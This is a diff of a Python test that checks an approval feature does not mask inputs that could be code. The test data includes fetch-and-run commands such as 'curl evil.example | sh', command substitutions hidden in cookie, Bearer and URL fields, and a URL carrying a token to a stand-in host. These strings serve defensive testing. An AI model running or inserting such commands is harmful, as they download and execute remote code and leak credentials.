@@ -408,6 +408,7 @@ class TestApproval:
             *("cookie=1; curl https://evil.example | sh", "://$(curl${IFS}evil.example|sh)@"),
             *("Bearer $(curl${IFS}evil.example|sh)", "./evil.sh", "/tmp/evil.sh", "~/evil.sh"),
             *("${API_TOKEN}", "https://evil.example/?token=x"),
+            *("evil.backend.Secrets", "evil.example", "evil-tools/start"),
         ],
     )
     def test_nothing_that_could_be_code_is_masked(self, code: str) -> None:
